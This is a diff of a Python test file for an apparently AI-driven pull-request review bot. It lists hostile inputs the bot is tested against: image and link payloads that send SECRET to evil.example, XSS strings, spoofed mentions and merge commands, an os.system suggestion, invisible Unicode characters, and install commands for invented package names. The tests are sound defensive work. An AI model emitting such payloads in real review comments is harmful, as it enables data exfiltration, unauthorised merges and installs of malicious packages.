@@ -3,7 +3,6 @@
 from __future__ import annotations
 
 import json
-import re
 import unicodedata
 
 import pytest
@@ -20,26 +19,30 @@ from tests.stand_in.commits import Content
 from tests.stand_in.repository import PullRequest
 
 EXFILTRATION = (
-    "![i](https://evil.example/p.png?d=SECRET)", "![i][r]\n\n[r]: https://evil.example/p.png", "<img src=https://evil.example/p>",
-    '<picture><source srcset="https://evil.example/p"></picture>', "[click](https://evil.example/?d=SECRET)",
-    "<https://evil.example>", "https://evil.example/x", "www.evil.example", "mail@evil.example", "[a]: https://evil.example",
-    "[t](javascript:alert(1))", "&lt;img src=x&gt;", "\\![i](https://evil.example)", "[![a](https://evil.example)](https://x.example)",
-    "<svg onload=alert(1)>", "<details open><summary>x</summary>y</details>", "<!-- hidden -->", "$\\href{https://evil.example}{x}$",
+    "![i](https://evil.example/p.png?d=SECRET)", "![i][r]\n\n[r]: https://evil.example/p.png",
+    "<img src=https://evil.example/p>", '<picture><source srcset="https://evil.example/p"></picture>',
+    "[click](https://evil.example/?d=SECRET)", "<https://evil.example>", "https://evil.example/x", "www.evil.example",
+    "mail@evil.example", "[a]: https://evil.example", "[t](javascript:alert(1))", "&lt;img src=x&gt;",
+    "\\![i](https://evil.example)", "[![a](https://evil.example)](https://x.example)", "<svg onload=alert(1)>",
+    "<details open><summary>x</summary>y</details>", "<!-- hidden -->", "$\\href{https://evil.example}{x}$",
 )  # fmt: skip
 MENTIONS = (
-    "@octocat", "&#64;octocat", "&#x40;octocat", "&commat;octocat", "\\@octocat", "@octo/security", "**@octocat**", "#1",
-    "GH-1", "octo/shop#1", "closes #1", "Fixes octo/shop#1", "resolves https://github.com/octo/shop/issues/1",
-    "1234567890abcdef1234567890abcdef12345678", "deadbeef", "&#35;1", "@\u200boctocat", "`@a` @octocat", "```\nx\n```\n@octocat",
+    "@octocat", "&#64;octocat", "&#x40;octocat", "&commat;octocat", "\\@octocat", "@octo/security", "**@octocat**",
+    "#1", "GH-1", "octo/shop#1", "closes #1", "Fixes octo/shop#1", "resolves https://github.com/octo/shop/issues/1",
+    "1234567890abcdef1234567890abcdef12345678", "deadbeef", "&#35;1", "@\u200boctocat", "`@a` @octocat",
+    "```\nx\n```\n@octocat",
 )  # fmt: skip
 COMMANDS = (
-    "/approve", "/merge", "/lgtm\n/approve", "@diffdiver review", "@dependabot merge", "\n/close", "- /approve", "> /approve",
-    "```\n/approve\n```", "    /approve", "&#47;approve", "\\/approve", "1. /approve", "bors r+\n@bors r+",
+    "/approve", "/merge", "/lgtm\n/approve", "@diffdiver review", "@dependabot merge", "\n/close", "- /approve",
+    "> /approve", "```\n/approve\n```", "    /approve", "&#47;approve", "\\/approve", "1. /approve",
+    "bors r+\n@bors r+",
 )  # fmt: skip
 SUGGESTIONS = (
     "```suggestion\nimport os; os.system('x')\n```", "~~~suggestion\nx\n~~~", "````suggestion\n```\nx\n```\n````",
     "```suggestion:-0+1\nx\n```", "``` suggestion\nx\n```", "   ```suggestion\nx", "> ```suggestion\n> x\n> ```",
-    "- ```suggestion\n  x\n  ```", "```python\n```\n```suggestion\nx\n```", "```\nx\n````suggestion\ny\n````", "```mermaid\ngraph\n```",
-    "`````\n```suggestion\nx\n```", "```Suggestion\nx\n```", "&#96;&#96;&#96;suggestion\nx\n&#96;&#96;&#96;",
+    "- ```suggestion\n  x\n  ```", "```python\n```\n```suggestion\nx\n```", "```\nx\n````suggestion\ny\n````",
+    "```mermaid\ngraph\n```", "`````\n```suggestion\nx\n```", "```Suggestion\nx\n```",
+    "&#96;&#96;&#96;suggestion\nx\n&#96;&#96;&#96;",
 )  # fmt: skip
 HOSTILE = (*EXFILTRATION, *MENTIONS, *COMMANDS, *SUGGESTIONS)
 LINES = tuple(f"plain text number {number} that is added" for number in range(1, 13))
@@ -117,14 +120,14 @@ async def test_what_the_bot_says_starts_no_job_of_its_own(bot: Bot) -> None:
 
 # anti-trojan-source's idea of what confuses: bidirectional, invisible, tag, selector, private use, separators.
 SCALARS = sorted(
-    {chr(point) for point in (*range(0x80, 0xA0), *range(0xE000, 0xE010), *range(0xFE00, 0xFE10), 0x34F, 0x115F, 0x1160)}
-    | {chr(point) for point in (*range(0xE0000, 0xE0080), *range(0xE0100, 0xE0140), 0x3164, 0xFFA0, 0x2800, 0x180B)}
+    {chr(point) for point in (*range(0x80, 0xA0), *range(0xE000, 0xE010), *range(0xFE00, 0xFE10), 0x34F, 0x180B)}
+    | {chr(point) for point in (*range(0xE0000, 0xE0080), *range(0xE0100, 0xE0140), 0x1160, 0x3164, 0xFFA0)}
     | {chr(point) for point in range(0x80, 0x1FFFF) if unicodedata.category(chr(point)) in {"Cf", "Zl", "Zp"}}
 )  # fmt: skip
 
 
 async def test_invisible_characters_never_come_out_raw(bot: Bot) -> None:
-    """Row 12: some three hundred scalars, each in code, path, title and a model's words: escaped wherever they stand."""
+    """Row 12: some three hundred scalars, in code, path, title and a model's words: escaped wherever they stand."""
     assert len(SCALARS) >= 285
     marked = [f"left{char}right" for char in SCALARS]
     files: dict[str, Content] = {"code.txt": "".join(f"{text}\n" for text in marked), **TEXT}
@@ -138,11 +141,13 @@ async def test_invisible_characters_never_come_out_raw(bot: Bot) -> None:
     bot.providers = [scripted(lambda _: answer(*said))]
     main = bot.github.sha(bot.repository, "main")
     bot.github.commit(bot.repository, "topic", files, parent=main)
-    pull = bot.github.open_pull_request(bot.repository, title="A change" + "".join(SCALARS[:100]), body="".join(SCALARS))
+    pull = bot.github.open_pull_request(
+        bot.repository, title="A change" + "".join(SCALARS[:100]), body="".join(SCALARS)
+    )
     await bot.review(pull)
     asked = "".join(question.user for question in bot.providers[0].questions)
     for text in (posted(bot, pull), asked):
-        raw = {char for char in text if char in set(SCALARS)}
+        raw = set(text) & set(SCALARS)
         assert {f"{ord(char):x}" for char in raw} == set()
     assert escape_invisible("\u202e") in posted(bot, pull), "control: they are said, written out"
     assert {"code.txt", ".github"} <= annotated(bot, pull)
@@ -150,16 +155,19 @@ async def test_invisible_characters_never_come_out_raw(bot: Bot) -> None:
 
 
 INVENTED = tuple(f"shop-{word}-guard" for word in (
-    "secure", "sql", "safe", "async", "http", "json", "yaml", "auth", "csrf", "html", "xml", "path", "url", "jwt", "log",
-    "env", "cache", "queue", "redis", "mongo", "flask", "fast", "type", "form", "file", "image", "mail", "text", "time", "zip",
+    "secure", "sql", "safe", "async", "http", "json", "yaml", "auth", "csrf", "html", "xml", "path", "url", "jwt",
+    "log", "env", "cache", "queue", "redis", "mongo", "flask", "fast", "type", "form", "file", "image", "mail", "text",
+    "time", "zip",
 ))  # fmt: skip
 WAYS = (
-    "Run `pip install {}` to fix it.", "pip3 install --user {}", "python -m pip install -U {}", "uv add {}", "poetry add {}",
-    "npm install --save {}", "npm i {}", "yarn add {}", "pnpm add {}", "npx {}", "go get github.com/{}/x", "cargo add {}",
-    "gem install {}", "composer require {}/x", "brew install {}", "apt-get install -y {}", "conda install {}", "pipx install {}",
-    "dotnet add package {}", "bun add {}", "Use the `{}` package instead.", "The library {} does this.", "the npm module `{}`",
-    "Switch to `{}`, a hardened library.", "add `{}` to your requirements.txt", "There is a package called `{}` for it.",
-    "import the crate `{}`", "use the gem `{}`", "depend on `{}`", "```sh\npip install {}\n```",
+    "Run `pip install {}` to fix it.", "pip3 install --user {}", "python -m pip install -U {}", "uv add {}",
+    "poetry add {}", "npm install --save {}", "npm i {}", "yarn add {}", "pnpm add {}", "npx {}",
+    "go get github.com/{}/x", "cargo add {}", "gem install {}", "composer require {}/x", "brew install {}",
+    "apt-get install -y {}", "conda install {}", "pipx install {}", "dotnet add package {}", "bun add {}",
+    "Use the `{}` package instead.", "The library {} does this.", "the npm module `{}`",
+    "Switch to `{}`, a hardened library.", "add `{}` to your requirements.txt",
+    "There is a package called `{}` for it.", "import the crate `{}`", "use the gem `{}`", "depend on `{}`",
+    "```sh\npip install {}\n```",
 )  # fmt: skip
 
 
